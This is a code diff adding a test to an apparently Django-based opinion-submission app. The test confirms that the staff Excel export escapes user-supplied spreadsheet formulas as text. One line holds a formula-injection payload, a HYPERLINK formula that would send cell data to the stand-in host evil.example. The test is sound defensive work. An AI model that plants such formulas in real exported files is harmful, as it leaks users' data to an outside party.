@@ -173,3 +173,14 @@ def test_the_menus(cast):
     assert "opinions:opinion_unit" in names("handler")
     public = {i["name"] for i in menu_for(None)}
     assert {"opinions:public_opinion_submit", "opinions:public_opinion_track"} <= public
+
+
+def test_an_anonymous_formula_reaches_the_export_as_text(cast, congress):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    with on(MONDAY):
+        online(congress, content=evil, constituent=A.Constituent(name="=1+1", phone="+8613900"))
+    r = client_for(cast["staff"]).get(EXPORT)
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=4) for c in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert "'" + evil in [c.value for c in cells] and "'=1+1" in [c.value for c in cells]
